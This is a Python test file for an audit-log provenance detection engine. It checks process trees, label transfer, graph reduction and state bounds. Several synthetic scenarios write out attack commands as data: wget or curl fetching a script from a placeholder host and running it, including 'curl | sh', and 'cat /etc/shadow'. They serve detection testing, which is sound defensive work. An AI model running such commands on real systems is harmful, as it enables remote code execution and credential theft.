"""Provenance graph: process tree, label transfer, reduction, bounded state."""

from __future__ import annotations

from detection import tags as T
from detection.engine import DetectionEngine, EngineConfig
from detection.reduction import is_non_viable


class Log:
    """Builds raw audit lines for synthetic scenarios."""

    def __init__(self):
        self.serial = 100
        self.ts = 1000.0
        self.lines: list[str] = []

    def _sys(
        self,
        sc,
        pid,
        ppid,
        exe,
        items=0,
        exit_=0,
        success="yes",
        a1="0",
        a2="0",
        auid=1000,
        ses=5,
        uid=1000,
    ):
        self.serial += 1
        self.ts += 0.01
        s, t = self.serial, self.ts
        self.lines.append(
            f"type=SYSCALL msg=audit({t:.3f}:{s}): arch=c000003e syscall={sc} success={success} "
            f"exit={exit_} a0=ffffff9c a1={a1} a2={a2} a3=0 items={items} ppid={ppid} pid={pid} "
            f"auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} "
            f'sgid={uid} fsgid={uid} tty=pts0 ses={ses} comm="{exe.rsplit("/", 1)[-1][:15]}" '
            f'exe="{exe}" key=(null)'
        )
        return s, t

    def _end(self, s, t, title="x"):
        self.lines.append(f'type=PROCTITLE msg=audit({t:.3f}:{s}): proctitle="{title}"')

    def _path(self, s, t, i, name, nametype="NORMAL", inode=None):
        inode = inode or abs(hash(name)) % 10**7
        self.lines.append(
            f'type=PATH msg=audit({t:.3f}:{s}): item={i} name="{name}" '
            f"inode={inode} dev=fe:00 mode=0100755 nametype={nametype}"
        )

    def login(self, pid, auid=1000, ses=5):
        s, t = self._sys(1, pid, 1, "/usr/sbin/sshd", auid=auid, ses=ses, uid=0)
        self.lines.insert(
            len(self.lines) - 1,
            f"type=LOGIN msg=audit({t:.3f}:{s}): pid={pid} uid=0 "
            f"old-auid=4294967295 auid={auid} tty=(none) old-ses=4294967295 "
            f"ses={ses} res=1",
        )
        self._end(s, t, "sshd")

    def fork(self, pid, ppid, child, exe="/usr/bin/bash"):
        s, t = self._sys(56, pid, ppid, exe, exit_=child)
        self._end(s, t)

    def execve(self, pid, ppid, exe, argv, image=None, cwd="/home/u"):
        s, t = self._sys(59, pid, ppid, exe, items=2)
        args = " ".join(f'a{i}="{a}"' for i, a in enumerate(argv))
        self.lines.append(f"type=EXECVE msg=audit({t:.3f}:{s}): argc={len(argv)} {args}")
        self.lines.append(f'type=CWD msg=audit({t:.3f}:{s}): cwd="{cwd}"')
        self._path(s, t, 0, image or exe)
        self._path(s, t, 1, "/lib64/ld-linux-x86-64.so.2")
        self._end(s, t, argv[0])

    def open(self, pid, ppid, exe, path, write=True, create=False, trunc=False, success="yes"):
        flags = (0x241 if trunc else 0x41) if write else 0x0
        s, t = self._sys(
            257,
            pid,
            ppid,
            exe,
            items=1,
            a2=f"{flags:x}",
            success=success,
            exit_=3 if success == "yes" else -13,
        )
        self._path(s, t, 0, path, "CREATE" if create else "NORMAL")
        self._end(s, t)

    def connect(self, pid, ppid, exe, port, exit_=0, success="yes"):
        s, t = self._sys(42, pid, ppid, exe, exit_=exit_, success=success)
        self.lines.append(
            f"type=SOCKADDR msg=audit({t:.3f}:{s}): saddr=0200{port:04X}7F0000010000000000000000"
        )
        self._end(s, t)

    def chmod(self, pid, ppid, path, mode=0o755):
        s, t = self._sys(268, pid, ppid, "/usr/bin/chmod", items=1, a2=f"{mode:x}")
        self._path(s, t, 0, path)
        self._end(s, t)


def _engine(reduce=True):
    return DetectionEngine("h", EngineConfig(reduce=reduce))


def test_fork_exec_tree_and_session_root():
    L = Log()
    L.login(10)
    L.fork(10, 1, 11, exe="/usr/sbin/sshd")
    L.execve(11, 10, "/usr/bin/bash", ["-bash"])
    L.fork(11, 10, 12)
    L.execve(12, 11, "/usr/bin/id", ["id"])
    eng = _engine()
    eng.process_lines(L.lines)
    g = eng.graph
    p12 = g.procs[12]
    assert p12.exe == "/usr/bin/id" and p12.argv == ["id"]
    assert p12.parent is g.procs[11] and p12.root is g.procs[10]
    assert g.procs[10].login


def test_download_exec_label_transfer_and_alert_growth():
    L = Log()
    L.login(10)
    L.fork(10, 1, 11, exe="/usr/sbin/sshd")
    L.execve(11, 10, "/usr/bin/bash", ["-bash"])
    L.fork(11, 10, 12)
    L.execve(12, 11, "/usr/bin/wget", ["wget", "-O", "/tmp/u.sh", "http://x/u.sh"])
    L.open(12, 11, "/usr/bin/wget", "/tmp/u.sh", create=True)  # wget opens the file first
    L.connect(12, 11, "/usr/bin/wget", 9999, exit_=-115, success="no")  # non-blocking
    eng = _engine()
    r1 = eng.process_lines(L.lines)
    f = eng.graph.files["/tmp/u.sh"]
    assert f.labels & T.DOWNLOADED and f.labels & T.UNTRUSTED
    assert eng.graph.procs[12].labels & T.NET_IN
    assert not eng.graph.procs[11].labels & T.UNTRUSTED  # labels never flow up to the parent
    assert all(a["severity"] == "low" for a in r1.alerts)
    aid = r1.alerts[0]["id"]
    L.lines.clear()
    L.chmod(11, 10, "/tmp/u.sh")
    L.fork(11, 10, 13)
    L.execve(13, 11, "/usr/bin/bash", ["/tmp/u.sh"], image="/tmp/u.sh")
    L.fork(13, 11, 14)
    L.execve(14, 13, "/usr/bin/cat", ["cat", "/etc/shadow"])
    L.open(14, 13, "/usr/bin/cat", "/etc/shadow", write=False)
    r2 = eng.process_lines(L.lines)
    (a,) = [x for x in r2.alerts if x["id"] == aid]
    assert a["severity"] in ("high", "critical")
    assert {"T1105", "T1222.002", "T1003.008", "T1059.004"} <= set(a["techniques"])
    assert a["version"] > r1.alerts[0]["version"]
    pids = {c["pid"] for c in a["chain"] if c["type"] == "process"}
    assert {13, 14} <= pids
    assert any(c["type"] == "file" and c["path"] == "/tmp/u.sh" for c in a["chain"])
    assert eng.graph.procs[14].labels & T.UNTRUSTED and eng.graph.procs[14].labels & T.SENSITIVE


def test_redundant_reads_are_skipped_but_new_versions_are_not():
    L = Log()
    L.execve(20, 1, "/usr/bin/cat", ["cat"])
    for _ in range(3):
        L.open(20, 1, "/usr/bin/cat", "/etc/shadow", write=False)
    L.open(21, 1, "/usr/bin/tee", "/etc/shadow", write=True)
    L.open(20, 1, "/usr/bin/cat", "/etc/shadow", write=False)
    eng = _engine()
    eng.process_lines(L.lines)
    st = eng.stats()
    assert st["edges_skipped"] == 2
    raw = _engine(reduce=False)
    raw.process_lines(L.lines)
    assert raw.stats()["edges_skipped"] == 0
    assert raw.stats()["edges"] > st["edges"]


def test_non_viable_nodes_are_pruned():
    assert is_non_viable("/etc/ld.so.cache", "read")
    assert is_non_viable("/usr/lib/locale/C.utf8/LC_CTYPE", "load")
    assert not is_non_viable("/etc/ld.so.preload", "write")
    L = Log()
    L.execve(30, 1, "/usr/bin/id", ["id"])
    eng = _engine()
    eng.process_lines(L.lines)
    assert "/lib64/ld-linux-x86-64.so.2" not in eng.graph.files
    # the unmodified system program itself is not materialised either (the exec edge names it)
    assert "/usr/bin/id" not in eng.graph.files
    assert eng.stats()["nodes_pruned"] == 2


def test_aging_bounds_state():
    L = Log()
    for pid in range(100, 160):
        L.execve(pid, 1, "/usr/bin/true", ["true"])
    eng = DetectionEngine("h", EngineConfig(max_nodes=20, expire_every=10))
    eng.process_lines(L.lines)
    assert eng.stats()["nodes"] <= 20 + 10
    eng.graph.expire(now=10**10)
    st = eng.stats()
    assert st["nodes"] == 0 and st["nodes_evicted"] >= 60
    assert st["memory_bytes"] >= 0


def test_stats_shape():
    eng = _engine()
    res = eng.process_lines(Log().lines)
    for k in (
        "records",
        "events",
        "nodes",
        "edges",
        "edges_skipped",
        "nodes_pruned",
    ):
        assert k in res.stats
    assert res.stats["nodes"] == eng.stats()["nodes"]
    assert "memory_bytes" in eng.stats()  # the node walk: whole-engine figures only


def _unlink(L: Log, pid, ppid, exe, path):
    s, t = L._sys(87, pid, ppid, exe, items=2)
    L._path(s, t, 0, path.rsplit("/", 1)[0], "PARENT")
    L._path(s, t, 1, path, "DELETE")
    L._end(s, t)


def _login_shell() -> Log:
    """A log that starts with an SSH login (pid 10) and its shell (pid 11)."""
    L = Log()
    L.login(10)
    L.fork(10, 1, 11, exe="/usr/sbin/sshd")
    L.execve(11, 10, "/usr/bin/bash", ["-bash"])
    return L


def test_garbage_collection_of_self_contained_processes_and_temp_files():
    L = _login_shell()
    L.fork(11, 10, 12)
    L.execve(12, 11, "/usr/bin/true", ["true"])  # touches nothing outside itself
    L.fork(11, 10, 13)
    L.execve(13, 11, "/usr/bin/mytool", ["mytool"])
    L.open(13, 11, "/usr/bin/mytool", "/tmp/work.tmp", create=True)
    _unlink(L, 13, 11, "/usr/bin/mytool", "/tmp/work.tmp")  # temp file, read by nobody
    L.open(13, 11, "/usr/bin/mytool", "/home/u/out.txt", create=True)  # persists
    eng = _engine()
    eng.process_lines(L.lines)
    g = eng.graph
    # the temp file's create and unlink edges go as soon as it is deleted
    merged = g.stats["edges_merged"]  # each fork edge went into its child's exec
    assert g.stats["edges_collected"] - merged == 2 and g.files["/tmp/work.tmp"].n == 0
    assert g.files["/home/u/out.txt"].n == 1
    true_edges = g.procs[12].n
    assert true_edges == 1  # its exec edge (its fork edge was merged into it)
    # and the shell's exec edge: all it has, its retained child 13 points to its node
    assert g.collect(idle=0.0, now=10**10) == true_edges + 1
    assert g.procs[12].collected and not g.procs[13].collected
    assert g.procs[11].n == 0 and not g.procs[11].collected
    assert g.procs[13].touched and g.procs[11].kids == 1  # a retained child keeps its parent
    assert not g.procs[10].collected
    # active again: no longer collected, and its parent waits for it
    L.execve(12, 11, "/usr/bin/true", ["true", "again"])
    eng.process_lines(L.lines[-6:])
    assert not g.procs[12].collected and g.procs[11].kids >= 1
    # without reduction nothing is collected
    off = _engine(reduce=False)
    off.process_lines(L.lines)
    assert off.graph.collect(idle=0.0, now=10**10) == 0 and off.graph.stats["edges_collected"] == 0


def test_labelled_or_matched_processes_are_never_collected():
    L = _login_shell()
    L.fork(11, 10, 12)
    L.execve(12, 11, "/usr/bin/id", ["id"])  # discovery rule matches: explained by an alert
    eng = _engine()
    eng.process_lines(L.lines)
    g = eng.graph
    g.procs[11].labels |= T.UNTRUSTED
    g.collect(idle=0.0, now=10**10)
    assert g.procs[12].keep and not g.procs[12].collected
    assert not g.procs[11].collected


def test_shell_piped_from_a_downloader_runs_untrusted_content():
    """``curl URL | sh`` (pipes are not audited): the stdin shell beside curl is untrusted."""
    L = _login_shell()
    L.fork(11, 10, 12)
    L.fork(11, 10, 13)
    L.fork(11, 10, 14)
    L.execve(12, 11, "/usr/bin/curl", ["curl", "-s", "http://x/i.sh"])
    L.execve(13, 11, "/usr/bin/sh", ["sh"])
    L.execve(14, 11, "/usr/bin/head", ["head", "-3"])
    L.connect(12, 11, "/usr/bin/curl", 9999)
    L.fork(13, 11, 15)
    L.execve(15, 13, "/usr/bin/id", ["id"])
    eng = _engine()
    eng.process_lines(L.lines)
    g = eng.graph
    assert g.procs[13].labels & T.UNTRUSTED and g.procs[15].labels & T.UNTRUSTED
    assert not g.procs[14].labels & T.UNTRUSTED  # head is not a shell
    assert not g.procs[11].labels & T.UNTRUSTED
    # a shell running a script file next to curl is not taken for a pipe reader
    L2 = _login_shell()
    L2.fork(11, 10, 12)
    L2.fork(11, 10, 13)
    L2.execve(12, 11, "/usr/bin/curl", ["curl", "-s", "http://x/i.sh"])
    L2.execve(13, 11, "/usr/bin/sh", ["sh", "build.sh"])
    L2.connect(12, 11, "/usr/bin/curl", 9999)
    eng2 = _engine()
    eng2.process_lines(L2.lines)
    assert not eng2.graph.procs[13].labels & T.UNTRUSTED


def test_untrusted_label_of_a_shell_startup_file_does_not_flow_into_its_readers():
    """An untrusted process appending to ``~/.bashrc`` (an installer's PATH line) does not make
    every later reader of the file dependent; a downloaded program it starts still is."""
    L = _login_shell()
    L.fork(11, 10, 12)
    L.fork(11, 10, 13)
    L.execve(12, 11, "/usr/bin/curl", ["curl", "-s", "http://x/i.sh"])
    L.execve(13, 11, "/usr/bin/sh", ["sh"])  # curl ... | sh
    L.connect(12, 11, "/usr/bin/curl", 9999)
    L.open(13, 11, "/usr/bin/sh", "/home/u/.bashrc")  # the installer's PATH line
    L.open(13, 11, "/usr/bin/sh", "/home/u/notes.txt")
    L.fork(11, 10, 14)
    L.execve(14, 11, "/usr/bin/sed", ["sed", "-i", "s/a/b/", "/home/u/.bashrc"])
    L.open(14, 11, "/usr/bin/sed", "/home/u/.bashrc", write=False)
    L.fork(11, 10, 15)
    L.execve(15, 11, "/usr/bin/cat", ["cat", "/home/u/notes.txt"])
    L.open(15, 11, "/usr/bin/cat", "/home/u/notes.txt", write=False)
    eng = _engine()
    eng.process_lines(L.lines)
    g = eng.graph
    assert g.files["/home/u/.bashrc"].labels & T.UNTRUSTED  # the edit itself is remembered
    assert not g.procs[14].labels & T.UNTRUSTED  # the next reader of .bashrc is not dependent
    assert g.procs[15].labels & T.UNTRUSTED  # any other file written by it still taints
